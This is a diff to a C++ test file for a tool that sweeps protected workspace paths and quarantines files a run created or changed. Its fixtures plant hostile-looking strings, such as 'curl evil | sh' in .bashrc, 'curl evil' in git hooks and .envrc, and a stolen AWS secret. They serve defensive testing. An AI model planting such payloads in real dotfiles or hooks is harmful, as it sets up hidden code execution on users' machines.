@@ -62,17 +62,27 @@ enum class Child {
 
 class SweepTest : public ::testing::Test {
  protected:
-  SweepTest() : ws_(tree_.Dir("ws")), quarantine_(tree_.Join("quarantine")) {}
+  SweepTest() : ws_(tree_.Dir("ws")), state_(tree_.Dir("state")), quarantine_(state_ + "/quarantine/run") {}
+
+  // `dir` as the state directory the sweep's quarantine goes below; none
+  // (dir -1) when it cannot be opened or made.
+  QuarantineHome Home(const std::string& dir) {
+    ::mkdir(dir.c_str(), 0700);
+    homes_.emplace_back(::open(dir.c_str(), O_PATH | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC));
+    return QuarantineHome{homes_.back().get(), dir};
+  }
 
   // The sweep, run in a forked child as the tree's owner. Root bypasses
   // every mode bit, so as root the tree is handed to uid 65534 first: the
   // command's chmod tricks work against an unprivileged caller only.
   // `prepare` runs in the child before the sweep (false: the child fails).
-  std::vector<SweepFinding> SweepAsOwner(const ProtectedSet& set, const std::string& quarantine,
+  std::vector<SweepFinding> SweepAsOwner(const ProtectedSet& set, const std::string& state,
                                          Child child = Child::kOwner,
                                          const std::function<bool()>& prepare = nullptr) {
     bool root = ::geteuid() == 0;
+    QuarantineHome home = Home(state);
     if (root) ChownTree(tree_.path(), kNobody);
+    if (root) ::lchown(state.c_str(), kNobody, kNobody);  // also when it is not in the tree
     int fds[2];
     EXPECT_EQ(::pipe2(fds, O_CLOEXEC), 0);
     UniqueFd read_end(fds[0]), write_end(fds[1]);
@@ -95,7 +105,7 @@ class SweepTest : public ::testing::Test {
         ::_exit(6);
       }
       std::ostringstream out;
-      for (const SweepFinding& finding : SweepProtected(set, quarantine, "run")) {
+      for (const SweepFinding& finding : SweepProtected(set, home, "run")) {
         out << static_cast<int>(finding.outcome) << '\t' << finding.path << '\t' << finding.what << '\t'
             << finding.moved_to << '\t' << finding.error << '\n';
       }
@@ -148,7 +158,9 @@ class SweepTest : public ::testing::Test {
 
   TestTree tree_;
   std::string ws_;
+  std::string state_;
   std::string quarantine_;
+  std::vector<UniqueFd> homes_;
 };
 
 TEST_F(SweepTest, NothingChangedNothingMoved) {
@@ -158,7 +170,7 @@ TEST_F(SweepTest, NothingChangedNothingMoved) {
   tree_.File("ws/dotfiles/zshrc");
   tree_.Symlink("ws/.zshrc", "dotfiles/zshrc");
   ProtectedSet set = DiscoverProtected({ws_});
-  EXPECT_TRUE(SweepProtected(set, quarantine_, "run").empty());
+  EXPECT_TRUE(SweepProtected(set, Home(state_), "run").empty());
   EXPECT_FALSE(TestTree::Exists(quarantine_));
   EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
 }
@@ -167,7 +179,7 @@ TEST_F(SweepTest, CreatedEnvrcIsQuarantined) {
   ProtectedSet set = DiscoverProtected({ws_});
   tree_.File("ws/.envrc", "export AWS_SECRET=stolen\n");
 
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_, "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
   EXPECT_EQ(findings[0].what, "created");
@@ -185,7 +197,7 @@ TEST_F(SweepTest, CreatedHooksDirectoryIsQuarantinedWhole) {
   ProtectedSet set = DiscoverProtected({ws_});
   tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");
 
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_, "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].path, ws_ + "/.git/hooks");
   EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
@@ -199,7 +211,7 @@ TEST_F(SweepTest, CreatedGitSymlinkIsMovedWithoutTouchingItsTarget) {
   tree_.File("elsewhere/hooks/pre-commit", "keep me\n");
   tree_.Symlink("ws/.git", elsewhere);
 
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_, "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].path, ws_ + "/.git");
   EXPECT_EQ(findings[0].error, "");
@@ -215,7 +227,7 @@ TEST_F(SweepTest, ReplacedSymlinkIsRestored) {
   ASSERT_EQ(::unlink((ws_ + "/.bashrc").c_str()), 0);
   tree_.File("ws/.bashrc", "curl evil | sh\n");
 
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_, "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].what, "replaced");
   EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined);
@@ -235,7 +247,7 @@ TEST_F(SweepTest, RetargetedAndRemovedSymlinksAreRestored) {
   tree_.Symlink("ws/.zshrc", "/etc/evil");
   ASSERT_EQ(::unlink((ws_ + "/.profile").c_str()), 0);
 
-  std::vector<SweepFinding> findings = SweepProtected(set, quarantine_, "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
   ASSERT_EQ(findings.size(), 2u);
   EXPECT_EQ(LinkText(ws_ + "/.zshrc"), "dotfiles/zshrc");
   EXPECT_EQ(LinkText(ws_ + "/.profile"), "dotfiles/profile");
@@ -259,7 +271,7 @@ TEST_F(SweepTest, ReadOnlyCreatedDirectoryUnderAReadOnlyParentIsQuarantined) {
   Chmod(ws_ + "/.git/hooks", 0555);
   Chmod(ws_ + "/.git", 0555);
 
-  std::vector<SweepFinding> findings = SweepAsOwner(set, quarantine_);
+  std::vector<SweepFinding> findings = SweepAsOwner(set, state_);
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
   EXPECT_FALSE(TestTree::Exists(ws_ + "/.git/hooks"));
@@ -277,7 +289,7 @@ TEST_F(SweepTest, ParentWithoutTheSearchBitIsStillSwept) {
   tree_.File("ws/.git/hooks/post-checkout", "#!/bin/sh\n");
   Chmod(ws_ + "/.git", 0);
 
-  std::vector<SweepFinding> findings = SweepAsOwner(set, quarantine_);
+  std::vector<SweepFinding> findings = SweepAsOwner(set, state_);
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].path, ws_ + "/.git/hooks");
   EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
@@ -322,7 +334,7 @@ TEST_F(SweepTest, AQuarantineNameTheRunTookIsNotUsed) {
   tree_.File("ws/.corral-quarantine", "planted by the run\n");
   tree_.File("blocker", "x");  // the state directory cannot be created under a file
 
-  std::vector<SweepFinding> findings = SweepProtected(set, tree_.Join("blocker/quarantine"), "run");
+  std::vector<SweepFinding> findings = SweepProtected(set, Home(tree_.Join("blocker/state")), "run");
   ASSERT_EQ(findings.size(), 1u);
   EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
   EXPECT_EQ(findings[0].moved_to, ws_ + "/.corral-quarantine-run/%2Eenvrc");
@@ -330,12 +342,15 @@ TEST_F(SweepTest, AQuarantineNameTheRunTookIsNotUsed) {
   EXPECT_EQ(TestTree::Read(ws_ + "/.corral-quarantine"), "planted by the run\n");
 }
 
-TEST_F(SweepTest, WhatCannotBeMovedAnywhereIsDeleted) {
+// Nothing is ever deleted: when neither quarantine can be used, it is
+// renamed in its own directory (never another filesystem), under a name no
+// tool reads.
+TEST_F(SweepTest, WhatCannotBeMovedElsewhereIsRenamedInItsOwnDirectory) {
   ProtectedSet set = DiscoverProtected({ws_});
   tree_.File("blocker", "x");
   tree_.File("ws/.corral-quarantine", "x");
   tree_.File("ws/.corral-quarantine-run", "x");
-  // Deeper than any fixed limit on descriptors, and read-only all the way.
+  // Deep, and read-only all the way.
   std::string dir = ws_ + "/.idea";
   for (int i = 0; i < 300; ++i) dir += "/d";
   std::filesystem::create_directories(dir);
@@ -344,11 +359,44 @@ TEST_F(SweepTest, WhatCannotBeMovedAnywhereIsDeleted) {
     Chmod(path, 0555);
   }
 
-  std::vector<SweepFinding> findings = SweepAsOwner(set, tree_.Join("blocker/quarantine"));
+  std::vector<SweepFinding> findings = SweepAsOwner(set, tree_.Join("blocker/state"));
   ASSERT_EQ(findings.size(), 1u);
-  EXPECT_EQ(findings[0].outcome, Outcome::kDeleted) << findings[0].error;
-  EXPECT_EQ(findings[0].moved_to, "");
+  EXPECT_EQ(findings[0].outcome, Outcome::kQuarantined) << findings[0].error;
+  std::string aside = ws_ + "/corral-quarantined-run-%2Eidea";
+  EXPECT_EQ(findings[0].moved_to, aside);
   EXPECT_FALSE(TestTree::Exists(ws_ + "/.idea"));
+  EXPECT_EQ(TestTree::Read(aside + "/workspace.xml"), "<tasks/>");
+  for (std::string path = aside; TestTree::Exists(path); path += "/d") Chmod(path, 0755);
+}
+
+// A path that existed at the start and holds another object at the end (the
+// original was moved away meanwhile, by another run's sweep) is taken out;
+// one that still holds the original is not touched.
+TEST_F(SweepTest, ANewObjectAtAnExistingPathIsTakenOutAndTheOriginalIsNot) {
+  tree_.File("ws/.envrc", "the user's\n");
+  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\n");
+  tree_.File("ws/.git/config", "[core]\n");
+  tree_.File("ws/.npmrc", "the user's too\n");
+  ProtectedSet set = DiscoverProtected({ws_});
+  // .envrc and the whole .git are replaced; .npmrc is left as it was.
+  std::filesystem::rename(ws_ + "/.envrc", tree_.Join("away-envrc"));
+  std::filesystem::rename(ws_ + "/.git", tree_.Join("away-git"));
+  tree_.File("ws/.envrc", "curl evil\n");
+  tree_.File("ws/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil\n");
+
+  std::vector<SweepFinding> findings = SweepProtected(set, Home(state_), "run");
+  ASSERT_EQ(findings.size(), 2u);
+  EXPECT_EQ(findings[0].path, ws_ + "/.envrc");
+  EXPECT_EQ(findings[1].path, ws_ + "/.git") << "the replaced directory goes whole";
+  for (const SweepFinding& finding : findings) {
+    EXPECT_EQ(finding.what, "recreated");
+    EXPECT_EQ(finding.outcome, Outcome::kQuarantined) << finding.error;
+  }
+  EXPECT_FALSE(TestTree::Exists(ws_ + "/.envrc"));
+  EXPECT_FALSE(TestTree::Exists(ws_ + "/.git"));
+  EXPECT_EQ(TestTree::Read(quarantine_ + ws_ + "/.git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n");
+  EXPECT_EQ(TestTree::Read(ws_ + "/.npmrc"), "the user's too\n");
+  EXPECT_TRUE(SweepProtected(DiscoverProtected({ws_}), Home(state_), "again").empty()) << "nothing changed";
 }
 
 // When nothing works (here: it is a mount point, which can be neither
@@ -358,7 +406,7 @@ TEST_F(SweepTest, WhatCannotBeRemovedIsReportedLeftInPlace) {
   tree_.Dir("ws/.claude");
   std::string cover = tree_.Dir("cover");
   std::string target = ws_ + "/.claude";
-  std::vector<SweepFinding> findings = SweepAsOwner(set, quarantine_, Child::kOwnerWithMount, [&] {
+  std::vector<SweepFinding> findings = SweepAsOwner(set, state_, Child::kOwnerWithMount, [&] {
     return ::mount(cover.c_str(), target.c_str(), nullptr, MS_BIND, nullptr) == 0;
   });
   ASSERT_EQ(findings.size(), 1u);
